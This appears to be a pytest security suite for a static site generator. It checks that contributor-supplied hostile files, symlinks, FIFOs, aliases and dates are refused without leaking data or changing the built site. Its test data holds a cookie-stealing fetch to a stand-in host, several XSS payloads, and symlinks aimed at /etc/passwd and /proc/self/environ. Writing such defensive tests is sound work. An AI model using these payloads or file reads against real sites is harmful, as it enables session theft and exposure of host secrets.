"""Content is untrusted: a pull request can add anything under content/, templates/ and assets/.

Each test is an attack as a hostile contributor would write it, run through the real command
line in a subprocess (with a timeout, so a build that blocks on a FIFO or /dev/zero fails the
test instead of hanging it). At `sitegen check` the attack must exit 1 and name the file (and
the line where there is one); at `sitegen build` it must exit 1, print no traceback and leave
the previously built site byte for byte as it was. For symlinks, the target's bytes must appear
nowhere: not in the output, not in any diagnostic.
"""

from __future__ import annotations

import io
import json
import os
import re
import shutil
import signal
import struct
import subprocess
import sys
import uuid
import zipfile
import zlib
from pathlib import Path
from urllib.parse import unquote

import pytest

from sitegen.changes import Change, ChangeReport, _code
from sitekit import REPO, Project

TIMEOUT = 90  # seconds for one sitegen run; a blocked read of a FIFO would otherwise hang forever
PUB = "content/publications/2020/evil.md"
NO_SEARCH = ("--no-search",)


# -- running sitegen as a contributor does ----------------------------------------------------


def sitegen(*args: str, env: dict[str, str] | None = None, timeout: float = TIMEOUT) -> tuple[int, str, str]:
    """(exit status, stdout, stderr) of `python -m sitegen ARGS`, killed (with its workers) after `timeout`."""
    environment = {
        **os.environ,
        "CI": "1",
        "PYTHONPATH": os.pathsep.join([str(REPO), *filter(None, [os.environ.get("PYTHONPATH")])]),
        **(env or {}),
    }
    process = subprocess.Popen(
        [sys.executable, "-m", "sitegen", *args],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=environment,
        start_new_session=True,
    )
    try:
        out, err = process.communicate(timeout=timeout)
    except subprocess.TimeoutExpired:
        os.killpg(process.pid, signal.SIGKILL)
        process.communicate()
        pytest.fail(f"sitegen {' '.join(args)} did not finish in {timeout} s (blocked on a special file?)")
    return process.returncode, out.decode("utf-8", "replace"), err.decode("utf-8", "replace")


def tree(root: Path) -> dict[str, bytes]:
    """Every file of an output folder by relative path (links are never followed: there must be none)."""
    found: dict[str, bytes] = {}
    for folder, dirs, names in os.walk(root):
        for name in dirs + names:
            path = Path(folder, name)
            assert not path.is_symlink(), f"the output holds a symlink: {path}"
        for name in names:
            path = Path(folder, name)
            found[path.relative_to(root).as_posix()] = path.read_bytes()
    return found


def build_clean(project: Project, *flags: str, env: dict[str, str] | None = None) -> dict[str, bytes]:
    code, out, err = sitegen("build", str(project.root), "--jobs", "1", *flags, env=env)
    assert code == 0, out + err
    return tree(project.out)


def line_of(project: Project, relative: str, needle: str) -> int:
    """The 1-based line of a file that first contains `needle`."""
    lines = (project.root / relative).read_text("utf-8").splitlines()
    return next(number for number, text in enumerate(lines, 1) if needle in text)


def refused(
    project: Project,
    before: dict[str, bytes],
    *,
    path: str,
    codes: tuple[str, ...],
    line: int | tuple[int, ...] = 0,
    secrets: tuple[bytes, ...] = (),
    env: dict[str, str] | None = None,
    build_flags: tuple[str, ...] = NO_SEARCH,
) -> list[dict]:
    """`check` exits 1 naming path (and line) with one of `codes`; `build` exits 1 and changes nothing.

    `line` may be a tuple of acceptable lines (an alias error names the `aliases:` line or the item's).
    """
    lines = line if isinstance(line, tuple) else (line,)
    texts = []
    code, out, err = sitegen("check", str(project.root), "--format", "json", env=env)
    texts.append(out + err)
    assert "Traceback" not in out + err, err
    assert code == 1, out + err
    found = json.loads(out)
    matching = [d for d in found if d["path"] == path and d["code"] in codes and d["severity"] == "error"]
    assert matching, f"no {codes} error for {path}: {found}"
    if any(lines):
        assert any(d["line"] in lines for d in matching), f"expected line {line}: {matching}"

    # What a pull request shows: an annotation on the file (and line) through `--format github`.
    code, out, err = sitegen("check", str(project.root), "--format", "github", env=env)
    texts.append(out + err)
    assert code == 1 and "Traceback" not in out + err, out + err
    annotations = [
        row
        for row in out.splitlines()
        if row.startswith(f"::error file={path},") or row.startswith(f"::error file={path}::")
    ]
    assert annotations, out
    if any(lines):
        assert any(f",line={number}," in row for row in annotations for number in lines), annotations
    where = tuple(f"{path}:{number}: " if number else f"{path}: " for number in lines)

    code, out, err = sitegen("build", str(project.root), "--jobs", "1", *build_flags, env=env)
    texts.append(out + err)
    assert "Traceback" not in out + err, err
    assert code == 1, out + err
    assert any(row.startswith(where) for row in err.splitlines()), err
    after = tree(project.out)
    assert after.keys() == before.keys()
    assert after == before, "a failed build changed the previous site"
    assert not list(project.root.glob(".*sitegen-staging*")), "staging debris left behind"
    for secret in secrets:
        assert secret, "an empty secret proves nothing"
        for text in texts:
            assert secret.decode("utf-8", "replace") not in text, "the link's target appears in the diagnostics"
        for relative, data in after.items():
            assert secret not in data, f"the link's target appears in {relative}"
    return found


def alias_lines(project: Project, alias: str) -> tuple[int, int]:
    """The `aliases:` line and the line of the item: a diagnostic about the alias may name either."""
    return line_of(project, PUB, "aliases:"), line_of(project, PUB, f"  - {json.dumps(alias)}")


def no_traceback(*args: str, env: dict[str, str] | None = None) -> tuple[int, str]:
    code, out, err = sitegen(*args, env=env)
    assert "Traceback" not in out + err, out + err
    return code, out + err


# -- a hostile publication ------------------------------------------------------------------


def evil(
    project: Project,
    *,
    attachments: tuple[str, ...] | list[str] = (),
    body: str = "Body text.",
    aliases: tuple[str, ...] | list[str] = (),
    extra: str = "",
) -> str:
    """Write content/publications/2020/evil.md by hand, so lines can be read off the text."""
    front = [
        "title: An innocent title",
        "date: 2020-06-01",
        "component: ice",
        "type: fact-sheet",
        "summary: A summary.",
    ]
    if aliases:
        front.append("aliases:")
        front += [f"  - {json.dumps(alias)}" for alias in aliases]
    if attachments:
        front.append("attachments:")
        for index, file in enumerate(attachments):
            front += [f"  - title: Attachment {index}", f"    file: {json.dumps(file)}"]
    if extra:
        front.append(extra)
    project.write(PUB, "---\n" + "\n".join(front) + "\n---\n" + body + "\n")
    return PUB


def base_site(project: Project) -> None:
    """A small valid site with one published attachment (so /files/ is a folder of the site)."""
    write_bytes(project, "content/files/annual-report.pdf", PDF)
    project.publication(
        "first", date="2020-01-01", attachments=[{"title": "Annual report", "file": "files/annual-report.pdf"}]
    )
    project.publication("second", date="2021-01-01", component="cbp")


def write_bytes(project: Project, relative: str, data: bytes) -> Path:
    path = project.root / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


# -- real files of each allowed kind ---------------------------------------------------------

PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)  # 1x1, 8-bit greyscale
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00\x00")) + chunk(b"IEND", b"")
    )


def _docx() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        )
        archive.writestr("word/document.xml", "<w:document/>")
    return buffer.getvalue()


PNG = _png()
DOCX = _docx()
CSV = b"year,count\n2020,3\n2021,5\n"
SCRIPT = b"<html><script>alert(document.cookie)</script></html>"


# -- files outside content/files/ are never published -----------------------------------------


def _uswds_js(clean: dict[str, bytes]) -> str:
    return next(path for path in clean if re.fullmatch(r"assets/uswds-[0-9a-f]+/js/uswds\.min\.js", path))


@pytest.mark.parametrize("how", ["attachment", "site-link", "relative-link"])
@pytest.mark.parametrize("where", ["pagefind", "assets"])
def test_a_file_outside_files_never_replaces_the_sites_scripts(project: Project, where: str, how: str) -> None:
    base_site(project)
    search = where == "pagefind"  # the search bundle exists only in a build with search
    flags = () if search else NO_SEARCH
    clean = build_clean(project, *flags)
    target = "pagefind/all/pagefind.js" if search else _uswds_js(clean)
    assert target in clean, sorted(clean)[:20]
    payload = b"/* " + uuid.uuid4().hex.encode() + b" */ fetch('https://evil.example/?' + document.cookie);"
    write_bytes(project, f"content/{target}", payload)
    if how == "attachment":
        evil(project, attachments=[target])
        line, codes = line_of(project, PUB, f'file: "{target}"'), ("attachment-outside-content",)
    else:
        link = "/" + target if how == "site-link" else "../../" + target
        evil(project, body=f"Read [the script]({link}).")
        line, codes = line_of(project, PUB, "the script"), ("broken-link",)
    refused(project, clean, path=PUB, codes=codes, line=line, secrets=(payload,), build_flags=flags)
    after = tree(project.out)
    assert after[target] == clean[target]  # the site's own script, byte for byte
    assert after[_uswds_js(clean)] == clean[_uswds_js(clean)]
    if search:
        assert after["pagefind/all/pagefind.js"] == clean["pagefind/all/pagefind.js"]


# -- content/files/: an allowlist of kinds, and bytes that match the extension -----------------

DANGEROUS = [
    ("annex.html", SCRIPT, "file-type"),
    ("x.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "file-type"),
    ("x.js", b"alert(document.cookie)", "file-type"),
    (
        "x.xml",
        b'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
        "file-type",
    ),
    ("README", b"no extension", "file-type"),
    ("report.pdf.html", SCRIPT, "file-type"),
    ("fake.pdf", SCRIPT, "file-content"),
    ("fake.png", SCRIPT, "file-content"),
    ("fake.docx", SCRIPT, "file-content"),
    ("notes.txt", b"<html><body><script>alert(1)</script>", "file-content"),
    ("spaced.txt", b"\r\n \t<html><script>alert(1)</script>", "file-content"),
    ("table.csv", b"<svg onload=alert(1)>,b\n", "file-content"),
]


@pytest.mark.parametrize(("name", "data", "code"), DANGEROUS, ids=[case[0] for case in DANGEROUS])
def test_an_attachment_of_a_dangerous_kind_is_an_error(project: Project, name: str, data: bytes, code: str) -> None:
    base_site(project)
    clean = build_clean(project)
    write_bytes(project, f"content/files/{name}", data)
    evil(project, attachments=[f"files/{name}"])
    refused(project, clean, path=f"content/files/{name}", codes=(code,), secrets=(data,))


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("report.pdf", PDF),
        ("chart.png", PNG),
        ("letter.docx", DOCX),
        ("table.csv", CSV),
        ("notes.txt", b"Plain notes.\n"),
    ],
)
def test_real_files_of_allowed_kinds_are_published(project: Project, name: str, data: bytes) -> None:
    base_site(project)
    write_bytes(project, f"content/files/{name}", data)
    evil(project, attachments=[f"files/{name}"])
    code, output = no_traceback("check", str(project.root))
    assert code == 0, output
    published = build_clean(project, *NO_SEARCH)
    assert published[f"files/{name}"] == data


def test_a_hidden_file_under_files_is_never_published(project: Project) -> None:
    base_site(project)
    clean = build_clean(project)
    write_bytes(project, "content/files/.evil.html", SCRIPT)
    evil(project, attachments=["files/.evil.html"])
    code, output = no_traceback("check", str(project.root))
    assert code == 1 and PUB in output, output
    code, output = no_traceback("build", str(project.root), "--jobs", "1", "--no-search")
    assert code == 1
    assert tree(project.out) == clean


# -- symlinks and special files are errors, and never read -------------------------------------

PASSWD = Path("/etc/passwd").read_bytes().splitlines()[0] if Path("/etc/passwd").is_file() else b""


def _outside(project: Project, name: str, data: bytes) -> Path:
    """A file outside the project, as a link target (a host file the contributor wants published)."""
    path = project.root.parent / "outside" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


@pytest.mark.skipif(not PASSWD, reason="needs /etc/passwd")
def test_attached_symlink_to_etc_passwd(project: Project) -> None:
    base_site(project)
    clean = build_clean(project)
    (project.root / "content/files/report.pdf").symlink_to("/etc/passwd")
    evil(project, attachments=["files/report.pdf"])
    refused(project, clean, path="content/files/report.pdf", codes=("symlink",), secrets=(PASSWD,))


@pytest.mark.skipif(not Path("/proc/self/environ").exists(), reason="needs /proc")
@pytest.mark.parametrize("link", ["/files/env.txt", "../../files/env.txt"])
def test_linked_symlink_to_proc_self_environ(project: Project, link: str) -> None:
    secret = "environ-" + uuid.uuid4().hex
    env = {"SITEGEN_TEST_SECRET": secret}
    base_site(project)
    clean = build_clean(project, env=env)
    (project.root / "content/files/env.txt").symlink_to("/proc/self/environ")
    evil(project, body=f"See [the environment]({link}).")
    refused(project, clean, path="content/files/env.txt", codes=("symlink",), secrets=(secret.encode(),), env=env)


@pytest.mark.skipif(not PASSWD, reason="needs /etc/passwd")
@pytest.mark.parametrize("how", ["attachment", "link"])
def test_symlinked_folder_to_etc(project: Project, how: str) -> None:
    base_site(project)
    clean = build_clean(project)
    (project.root / "content/files/dir").symlink_to("/etc", target_is_directory=True)
    if how == "attachment":
        evil(project, attachments=["files/dir/passwd"])
    else:
        evil(project, body="See [users](/files/dir/passwd) and [hosts](../../files/dir/hosts).")
    refused(project, clean, path="content/files/dir", codes=("symlink",), secrets=(PASSWD,))


@pytest.mark.skipif(not PASSWD, reason="needs /etc/passwd")
def test_the_files_folder_itself_a_symlink_to_etc(project: Project) -> None:
    base_site(project)
    clean = build_clean(project)
    files = project.root / "content/files"
    for child in files.iterdir():
        child.unlink()
    files.rmdir()
    files.symlink_to("/etc", target_is_directory=True)
    project.publication("first", date="2020-01-01", attachments=[{"title": "Users", "file": "files/passwd"}])
    refused(project, clean, path="content/files", codes=("symlink",), secrets=(PASSWD,))


def test_symlinked_publication(project: Project) -> None:
    base_site(project)
    clean = build_clean(project)
    secret = "linked-body-" + uuid.uuid4().hex
    target = _outside(
        project,
        "private.md",
        f"---\ntitle: {secret}\ndate: 2020-03-01\ncomponent: ice\n"
        f"type: fact-sheet\nsummary: {secret}\n---\n{secret}\n".encode(),
    )
    (project.root / "content/publications/2020/linked.md").symlink_to(target)
    refused(project, clean, path="content/publications/2020/linked.md", codes=("symlink",), secrets=(secret.encode(),))


@pytest.mark.parametrize("config", ["types.yaml", "topics.yaml", "site.yaml"])
def test_symlinked_configuration_file(project: Project, config: str) -> None:
    base_site(project)
    clean = build_clean(project)
    secret = "config-" + uuid.uuid4().hex
    original = (project.root / "content" / config).read_text("utf-8")
    # A valid file of the right shape, so nothing but the link itself is wrong.
    text = original.replace("Publications Library", secret) if config == "site.yaml" else original + f"x: {secret}\n"
    target = _outside(project, config, text.encode())
    (project.root / "content" / config).unlink()
    (project.root / "content" / config).symlink_to(target)
    refused(project, clean, path=f"content/{config}", codes=("symlink",), secrets=(secret.encode(),))


@pytest.mark.parametrize("name", ["page.html", "partials/evil.html"])
def test_symlink_inside_templates(project: Project, name: str) -> None:
    base_site(project)
    clean = build_clean(project)
    secret = "template-" + uuid.uuid4().hex
    target = _outside(
        project,
        "template.html",
        f'{{% extends "base.html" %}}{{% block main %}}{secret}{{% endblock %}}{secret}'.encode(),
    )
    link = project.root / "templates" / name
    if link.exists():
        link.unlink()
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(target)
    refused(project, clean, path=f"templates/{name}", codes=("symlink",), secrets=(secret.encode(),))


def test_templates_folder_itself_a_symlink(project: Project) -> None:
    base_site(project)
    clean = build_clean(project)
    secret = "template-folder-" + uuid.uuid4().hex
    copy = project.root.parent / "outside" / "templates"
    shutil.copytree(project.root / "templates", copy)
    (copy / "page.html").write_text(secret, "utf-8")
    shutil.rmtree(project.root / "templates")
    (project.root / "templates").symlink_to(copy, target_is_directory=True)
    refused(project, clean, path="templates", codes=("symlink",), secrets=(secret.encode(),))


def test_the_content_folder_itself_a_symlink(project: Project) -> None:
    base_site(project)
    clean = build_clean(project)
    secret = "content-folder-" + uuid.uuid4().hex
    project.publication(
        "first",
        date="2020-01-01",
        body=secret,
        attachments=[{"title": "Annual report", "file": "files/annual-report.pdf"}],
    )
    outside = project.root.parent / "outside" / "content"
    outside.parent.mkdir(parents=True, exist_ok=True)
    shutil.move(project.root / "content", outside)
    (project.root / "content").symlink_to(outside, target_is_directory=True)
    refused(project, clean, path="content", codes=("symlink",), secrets=(secret.encode(),))


@pytest.mark.parametrize("name", ["js/search.js", "css/site.css", "js/extra.js"])
def test_symlink_inside_assets(project: Project, name: str) -> None:
    base_site(project)
    clean = build_clean(project)
    secret = "asset-" + uuid.uuid4().hex
    target = _outside(project, "asset.txt", f"/* {secret} */".encode())
    link = project.root / "assets" / name
    if link.exists():
        link.unlink()
    link.symlink_to(target)
    refused(project, clean, path=f"assets/{name}", codes=("symlink",), secrets=(secret.encode(),))


@pytest.mark.parametrize("how", ["attachment", "link"])
def test_symlink_to_a_fifo_does_not_hang(project: Project, how: str) -> None:
    base_site(project)
    clean = build_clean(project)
    fifo = project.root.parent / "outside" / "fifo"
    fifo.parent.mkdir(parents=True, exist_ok=True)
    os.mkfifo(fifo)
    (project.root / "content/files/report.pdf").symlink_to(fifo)
    if how == "attachment":
        evil(project, attachments=["files/report.pdf"])
    else:
        evil(project, body="See [the report](/files/report.pdf).")
    refused(project, clean, path="content/files/report.pdf", codes=("symlink",))


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="needs /dev/zero")
@pytest.mark.parametrize("name", ["files/zero.txt", "files/zero.pdf"])
def test_symlink_to_dev_zero_does_not_hang(project: Project, name: str) -> None:
    base_site(project)
    clean = build_clean(project)
    (project.root / "content" / name).symlink_to("/dev/zero")
    evil(project, attachments=[name], body=f"See [zeros](/{name}).")
    refused(project, clean, path=f"content/{name}", codes=("symlink",))


@pytest.mark.parametrize(
    "where", ["content/files/pipe.pdf", "content/files/pipe.txt", "templates/pipe.html", "assets/js/pipe.js"]
)
def test_a_fifo_itself_is_a_special_file(project: Project, where: str) -> None:
    base_site(project)
    clean = build_clean(project)
    os.mkfifo(project.root / where)
    if where.startswith("content/files/"):
        name = where.removeprefix("content/")
        evil(project, attachments=[name], body=f"See [the pipe](/{name}).")
    refused(project, clean, path=where, codes=("special-file",))


# -- aliases: never over a folder of the site, never where the build writes -------------------

ALIASES = [
    "/files",
    "/files/",
    "/assets",
    "/assets/uswds.js",
    "/pagefind",
    "/pagefind/all/pagefind.js",
    "/publications/component",
    "/publications/component/ice",
    "/publications/type",
    "/robots.txt",
    "/files/annual-report.pdf",
    "/sitemap.xml",
    "/feed.xml",
    "/_redirects",
    "/s3-routing-rules.json",
    "/404.html",
    "/search",
    "/publications",
    "/",
    "/publications/first",
    "/about",
    # Percent-encoded spellings of the same folders: S3 rule keys are decoded.
    "/%66iles",
    "/publications/%63omponent",
]
HOLES: dict[str, str] = {}  # alias -> why it still gets through (none today)


@pytest.mark.parametrize(
    "alias",
    [
        pytest.param(alias, marks=pytest.mark.xfail(strict=True, reason=HOLES[alias])) if alias in HOLES else alias
        for alias in ALIASES
    ],
)
def test_an_alias_that_would_shadow_the_site_is_refused(project: Project, alias: str) -> None:
    base_site(project)
    clean = build_clean(project)
    evil(project, aliases=[alias])
    refused(project, clean, path=PUB, codes=("url-collision", "bad-alias"), line=alias_lines(project, alias))


@pytest.mark.parametrize(
    "alias",
    [
        "/publication/`x`",
        "/publication/``x``",
        "/publication/x](https://evil.example)",
        "/publication/<img src=x onerror=alert(1)>",
        "/publication/x y",
        '/publication/x"onmouseover="alert(1)',
        "/publication/x\\y",
    ],
)
def test_an_alias_that_could_inject_into_the_change_report_is_refused(project: Project, alias: str) -> None:
    base_site(project)
    clean = build_clean(project)
    evil(project, aliases=[alias])
    refused(project, clean, path=PUB, codes=("bad-alias",), line=alias_lines(project, alias))


def test_a_legitimate_alias_still_redirects(project: Project) -> None:
    base_site(project)
    evil(project, aliases=["/publication/old-name"])
    code, output = no_traceback("check", str(project.root))
    assert code == 0, output
    site = build_clean(project, *NO_SEARCH)
    page = site["publication/old-name/index.html"].decode()
    assert re.search(r'http-equiv="refresh" content="0; url=/library/publications/evil/"', page), page
    rules = site["_redirects"].decode().splitlines()
    assert "/library/publication/old-name /library/publications/evil/ 301" in rules
    assert "/library/publication/old-name/ /library/publications/evil/ 301" in rules
    s3 = json.loads(site["s3-routing-rules.json"])
    assert [(rule["Condition"]["KeyPrefixEquals"], rule["Redirect"]["ReplaceKeyWith"]) for rule in s3] == [
        ("library/publication/old-name/", "library/publications/evil/")
    ]


LEGITIMATE = [
    "/publication/evil",
    "/old/evil.html",
    "/publication/evil-2/",
    "/docs/2021/evil",
    "/dhs/pia/049",
    "/publications/evil-old",
]


@pytest.mark.parametrize(
    "aliases",
    [
        LEGITIMATE,
        LEGITIMATE + ["/old%20name", "/caf%C3%A9"],  # encoded characters that cannot be written plainly
    ],
    ids=["legitimate", "encoded-characters"],
)
def test_redirect_rules_never_cover_another_output(project: Project, aliases: list[str]) -> None:
    """S3 matches key prefixes, so a rule over a folder redirects every file in it."""
    base_site(project)
    evil(project, aliases=aliases)
    code, output = no_traceback("check", str(project.root))
    assert code == 0, output
    site = build_clean(project, *NO_SEARCH)
    base = "library/"
    own = {f"{base}{a.lstrip('/')}" if a.endswith(".html") else f"{base}{a.strip('/')}/index.html" for a in aliases}
    keys = [base + relative for relative in site]
    folders = {key.rsplit("/", 1)[0] + "/" for key in keys}
    folders |= {"/".join(f.split("/")[:depth]) + "/" for f in set(folders) for depth in range(1, f.count("/"))}
    own_folders = {page.rsplit("/", 1)[0] + "/" for page in own}

    rules = json.loads(site["s3-routing-rules.json"])
    assert len(rules) == len(aliases)
    for rule in rules:
        prefix = rule["Condition"]["KeyPrefixEquals"]
        assert [key for key in keys if key.startswith(prefix)] in ([], [k for k in own if k.startswith(prefix)]), prefix
        assert all(folder in own_folders for folder in folders if folder.startswith(prefix)), prefix

    sources = [line.split()[0] for line in site["_redirects"].decode().splitlines() if line and line[0] != "#"]
    assert sources
    for source in sources:
        path = unquote(source).lstrip("/")
        assert path.startswith(base)
        covered = path if path.endswith(".html") else path.rstrip("/") + "/"
        assert [key for key in keys if key == path or key.startswith(covered)] in (
            [],
            [k for k in own if k == path or k.startswith(covered)],
        ), source
        assert all(folder in own_folders for folder in folders if folder.startswith(covered)), source


# -- the change report: no injection through paths --------------------------------------------


def code_spans(line: str) -> tuple[list[str], list[str]]:
    """(code span contents, text outside code spans) of one line, by CommonMark 0.31 section 6.1.

    Uses markdown-it-py when it is installed; otherwise this reading of the spec (backtick
    strings, a span closed only by a string of the same length, one space stripped from both
    ends when both are spaces and the content is not all spaces; a backslash escapes one backtick).
    """
    try:
        from markdown_it import MarkdownIt  # type: ignore[import-not-found]
    except ImportError:
        pass
    else:
        tokens = MarkdownIt("commonmark").parseInline(line)[0].children or []
        return (
            [t.content for t in tokens if t.type == "code_inline"],
            [t.content for t in tokens if t.type != "code_inline"],
        )
    spans, outside, position, text_start = [], [], 0, 0
    while True:
        found = re.compile(r"`+").search(line, position)
        if not found:
            break
        start, end = found.span()
        backslashes = len(line[:start]) - len(line[:start].rstrip("\\"))
        if backslashes % 2:  # an escaped backtick is text; the rest of the run may still open a span
            start += 1
            if start == end:
                position = end
                continue
        length = end - start
        closing = next((m for m in re.finditer(r"`+", line[end:]) if len(m.group(0)) == length), None)
        if closing is None:
            position = end
            continue
        content = line[end : end + closing.start()]
        if content.startswith(" ") and content.endswith(" ") and content.strip(" "):
            content = content[1:-1]
        outside.append(line[text_start:start])
        spans.append(content)
        position = text_start = end + closing.end()
    outside.append(line[text_start:])
    return spans, outside


@pytest.mark.parametrize(
    "text",
    [
        "/plain/",
        "/a`b/",
        "/a``b/",
        "/a```b/",
        "/a`b``c```d/",
        "`/start",
        "/end`",
        "``/both``",
        " /leading-space",
        "/trailing-space ",
        "/x````y/",
    ],
)
def test_code_spans_survive_backticks(text: str) -> None:
    span = _code(text)
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    fence = re.match(r"`+", span).group(0)
    assert len(fence) > longest, "the fence must be longer than every backtick run of the text"
    assert span.endswith(fence)
    spans, outside = code_spans(f"- {span} → after")
    assert spans == [text], (span, spans)
    assert "".join(outside) == "-  → after"


def test_a_report_line_with_backticks_in_both_paths_reads_back_exactly() -> None:
    report = ChangeReport(added=[Change("redirect", "/a`b``c```/", target="/t``x`/")])
    line = next(row for row in report.to_markdown().splitlines() if row.startswith("- "))
    spans, outside = code_spans(line)
    assert spans == ["/a`b``c```/", "/t``x`/"], line
    assert "`" not in "".join(outside)


def test_an_at_sign_in_an_alias_is_never_a_mention_in_the_change_report(project: Project, tmp_path: Path) -> None:
    """`@` is an RFC 3986 path character, so an alias may hold one; `sitegen diff` must show it as code."""
    base_site(project)
    old = tmp_path / "old"
    assert sitegen("build", str(project.root), "--jobs", "1", "--no-search", "-o", str(old))[0] == 0
    evil(project, aliases=["/publication/@maintainers", "/@security-team/x"])
    code, out, err = sitegen("check", str(project.root), "--format", "json")
    if code == 1:  # refusing it is just as good
        assert any(d["code"] == "bad-alias" and d["path"] == PUB for d in json.loads(out)), out
        return
    new = tmp_path / "new"
    assert sitegen("build", str(project.root), "--jobs", "1", "--no-search", "-o", str(new))[0] == 0
    code, report, err = sitegen("diff", str(old), str(new))
    assert code == 0, err
    mentioned = [row for row in report.splitlines() if "@" in row]
    assert len(mentioned) == 2, report
    for row in mentioned:
        spans, outside = code_spans(row)
        assert any("@" in span for span in spans), row
        assert not re.search(r"@\w", "".join(outside)), row


# -- impossible dates are diagnostics, never tracebacks ---------------------------------------


@pytest.mark.parametrize(
    ("field", "value", "timezone"),
    [
        ("publish_at", "9999-12-31T23:59-14:00", None),
        ("publish_at", "9999-12-31T23:59+14:00", None),
        ("publish_at", "0001-01-01T00:00+14:00", None),
        ("publish_at", "9999-12-31", "Pacific/Kiritimati"),
        ("publish_at", "0001-01-01", "Asia/Tokyo"),
        ("publish_at", "2026-02-30", None),
        ("publish_at", "2026-02-30T10:00Z", None),
        ("date", "0001-01-01", None),
        ("date", "9999-12-31", None),
        ("date", "2026-02-30", None),
        ("updated", "9999-12-31", None),
    ],
)
def test_far_future_and_impossible_dates(project: Project, field: str, value: str, timezone: str | None) -> None:
    if timezone:
        project.write_yaml("content/site.yaml", {**project.site, "timezone": timezone})
    base_site(project)
    clean = build_clean(project)
    if field == "date":
        text = PUB_TEXT.replace("date: 2020-06-01", f"date: {value}")
    else:
        text = PUB_TEXT.replace("summary: A summary.", f"summary: A summary.\n{field}: {value}")
    project.write(PUB, text)
    line = line_of(project, PUB, f"{field}: {value}")
    code, out, err = sitegen("check", str(project.root), "--format", "json")
    assert "Traceback" not in out + err, err
    assert code in (0, 1), out + err
    if code == 1:
        found = [d for d in json.loads(out) if d["severity"] == "error"]
        assert found and all(d["path"] == PUB and d["line"] == line for d in found), found
        assert any(value in d["message"] for d in found), found
        refused(project, clean, path=PUB, codes=tuple({d["code"] for d in found}), line=line)
    else:
        for flags in ((), ("--future",)):
            built, output = no_traceback("build", str(project.root), "--jobs", "1", "--no-search", *flags)
            assert built == 0, output


PUB_TEXT = """\
---
title: An innocent title
date: 2020-06-01
component: ice
type: fact-sheet
summary: A summary.
---
Body text.
"""
